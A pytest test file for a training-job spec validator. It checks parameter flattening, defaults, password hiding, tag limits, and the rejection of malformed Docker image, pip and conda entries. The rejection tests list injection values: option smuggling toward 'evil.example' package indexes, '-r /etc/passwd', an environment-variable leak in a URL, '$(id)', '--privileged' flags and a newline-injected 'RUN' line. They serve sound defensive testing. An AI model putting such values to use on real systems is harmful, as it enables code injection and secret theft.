"""The Estimator spec without HTTP."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trainhub.spec import (
    MAX_TAG_KEY_CHARS,
    MAX_TAG_VALUE_CHARS,
    MAX_TAGS,
    EnvironmentDefinition,
    EstimatorSpec,
    NotSupportedYet,
    SpecError,
    apply_definition,
    check_conda_packages,
    check_image_reference,
    check_pip_packages,
    check_tags,
    flatten_script_params,
    parse_environment_definition,
    parse_estimator,
)


def test_flatten_follows_azure_ml() -> None:
    assert flatten_script_params(
        {"--lr": 0.1, "--verbose": "", "--n": 3, "--flag": True, "--x": None}
    ) == [
        "--lr",
        "0.1",
        "--verbose",
        "--n",
        "3",
        "--flag",
        "True",
        "--x",
    ]


@given(st.dictionaries(st.text(min_size=1), st.one_of(st.integers(), st.text(min_size=1))))
def test_flatten_pairs_every_key_with_its_value(params: dict[str, int | str]) -> None:
    args = flatten_script_params(dict(params))
    assert args[0::2] == list(params)
    assert args[1::2] == [str(v) for v in params.values()]


def test_defaults_match_the_azure_estimator() -> None:
    spec = parse_estimator(json.dumps({"entry_script": "train.py"}))
    assert (spec.compute_target, spec.node_count, spec.process_count_per_node) == ("local", 1, 1)
    assert spec.use_docker and not spec.use_gpu and spec.framework == "Python"


def test_older_image_name_is_accepted() -> None:
    spec = parse_estimator(
        json.dumps({"entry_script": "a.py", "custom_docker_base_image": "img:1"})
    )
    assert spec.image == "img:1"


def test_not_supported_yet_is_a_spec_error_naming_the_field() -> None:
    with pytest.raises(NotSupportedYet) as caught:
        parse_estimator(json.dumps({"entry_script": "a.py", "framework": "TensorFlow"}))
    assert isinstance(caught.value, SpecError)
    assert caught.value.field == "framework"


def test_nested_unknown_field_is_named_with_its_path() -> None:
    with pytest.raises(SpecError) as caught:
        parse_estimator(
            json.dumps({"entry_script": "a.py", "distributed_training": {"type": "mpi", "x": 1}})
        )
    assert caught.value.field == "distributed_training.x"


def test_public_spec_hides_registry_password() -> None:
    from trainhub.spec import EstimatorSpec, RegistryDetails

    spec = EstimatorSpec(
        entry_script="a.py",
        custom_docker_image="r/x:1",
        image_registry_details=RegistryDetails(address="r", username="u", password="hunter2"),
    )
    assert "hunter2" not in json.dumps(spec.to_public())


VALID_IMAGES = [
    "alpine",
    "python:3.11-slim",
    "trainhub/base:cpu",
    "nvidia/cuda:12.2.0-runtime-ubuntu22.04",
    "127.0.0.1:1/nvidia/cuda:12-runtime",
    "localhost:5000/x/y@sha256:" + "a" * 64,
    "registry.example.com:5000/team/image:tag",
    "Registry.Example.com/team/image",
    "[::1]:5000/a/b:c",
    "a__b/c-d--e.f_g:V1.0_x",
]
INVALID_IMAGES = [
    "--privileged alpine",
    "alpine --privileged",
    "-alpine",
    "alpine\n",
    "alpine\nRUN echo owned",
    "Ubuntu",
    "MyOrg/image",
    "alpine:",
    "alpine:-tag",
    "alpine@sha256:abc",
    "a//b",
    "a/b/",
    "",
    "x/" + "y" * 300,
]


@pytest.mark.parametrize("image", VALID_IMAGES)
def test_image_references_are_accepted(image: str) -> None:
    check_image_reference("custom_docker_image", image)


@pytest.mark.parametrize("image", INVALID_IMAGES)
def test_values_that_are_not_image_references_are_refused(image: str) -> None:
    with pytest.raises(SpecError) as caught:
        check_image_reference("custom_docker_image", image)
    assert caught.value.field == "custom_docker_image"
    shown = repr(image if len(image) <= 60 else image[:60] + "...")
    assert caught.value.message.startswith(
        f"custom_docker_image: {shown} is not a Docker image reference"
    )


@pytest.mark.parametrize(
    "entry",
    [
        "six",
        "six==1.16.0",
        "numpy[dev]>=1.2,<2",
        "six; python_version < '3'",
        "thlocal @ https://files.example.com/thlocal-1.0-py3-none-any.whl",
    ],
)
def test_requirements_are_accepted(entry: str) -> None:
    check_pip_packages("pip_packages", ["six", entry])


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        ("--index-url=http://evil.example/simple", "pip options are not accepted"),
        ("-r /etc/passwd", "pip options are not accepted"),
        ("  -e .", "pip options are not accepted"),
        ("six\n-r /etc/passwd", "control character"),
        ("six\r", "control character"),
        ("six\t", "control character"),
        ("six -r /etc/passwd", "Expected"),
        ("six==1.0 --hash=sha256:00", "Expected"),
        ("x @ https://evil.example/${PIP_INDEX_URL}", "environment variable"),
        ("", "Expected"),
    ],
)
def test_pip_entries_that_are_not_one_requirement_are_refused(entry: str, reason: str) -> None:
    with pytest.raises(SpecError) as caught:
        check_pip_packages("pip_packages", ["six", entry])
    assert caught.value.field == "pip_packages"
    assert caught.value.message.startswith(
        f"pip_packages[1]: {entry!r} is not a requirement (PEP 508"
    )
    assert reason in caught.value.message


@pytest.mark.parametrize("entry", ["numpy", "numpy=1.26", "numpy>=1.2,<2", "conda-forge::numpy"])
def test_conda_specs_are_accepted(entry: str) -> None:
    check_conda_packages("conda_packages", [entry])


@pytest.mark.parametrize(
    "entry", ["--channel=http://evil", "-c evil", "numpy 1.2", "numpy\nx", "'numpy'", "$(id)", ""]
)
def test_conda_entries_that_are_not_one_spec_are_refused(entry: str) -> None:
    with pytest.raises(SpecError) as caught:
        check_conda_packages("conda_packages", [entry])
    assert caught.value.field == "conda_packages"
    assert caught.value.message.startswith(f"conda_packages[0]: {entry!r} is not a conda package")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("pip_packages", ["--index-url=http://x"]),
        ("conda_packages", ["--channel=x"]),
        ("custom_docker_image", "--privileged alpine"),
        ("custom_docker_base_image", "--privileged alpine"),
    ],
)
def test_the_estimator_checks_packages_and_images(field: str, value: object) -> None:
    with pytest.raises(SpecError) as caught:
        parse_estimator(json.dumps({"entry_script": "a.py", field: value}))
    assert caught.value.field == field


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("pip_packages", ["six\n-r /etc/passwd"]),
        ("conda_packages", ["--channel=x"]),
        ("custom_docker_image", "--privileged alpine"),
    ],
)
def test_environment_definitions_are_checked_when_registered_and_when_applied(
    field: str, value: object
) -> None:
    with pytest.raises(SpecError) as registered:
        parse_environment_definition(json.dumps({"name": "env", field: value}))
    assert registered.value.field == field
    # A definition stored before these checks existed is refused when a run uses it.
    stored = EnvironmentDefinition(name="env", **{field: value})
    with pytest.raises(SpecError) as applied:
        apply_definition(EstimatorSpec(entry_script="a.py"), stored)
    assert applied.value.field == field


def test_tags_at_the_limits_are_kept() -> None:
    tags = {
        f"{i:03d}" + "k" * (MAX_TAG_KEY_CHARS - 3): "v" * MAX_TAG_VALUE_CHARS for i in range(100)
    }
    assert len(tags) == MAX_TAGS
    assert check_tags(tags) == tags
    assert check_tags({"n": 1, "none": None}) == {"n": "1", "none": ""}


@pytest.mark.parametrize(
    ("tags", "message"),
    [
        ({str(i): "" for i in range(50_000)}, "tags: at most 100 tags (got 50000)"),
        ({str(i): "" for i in range(101)}, "tags: at most 100 tags (got 101)"),
        ({"k" * 257: ""}, f"tags[{'k' * 60 + '...'!r}]: key longer than 256 characters"),
        ({"k": "v" * 5001}, "tags['k']: value longer than 5000 characters"),
        ([["k", "v"]], "tags must be a JSON object of strings"),
    ],
)
def test_tags_over_the_limits_are_refused_naming_the_limit(tags: object, message: str) -> None:
    with pytest.raises(SpecError) as caught:
        check_tags(tags)
    assert caught.value.field == "tags"
    assert caught.value.message == message
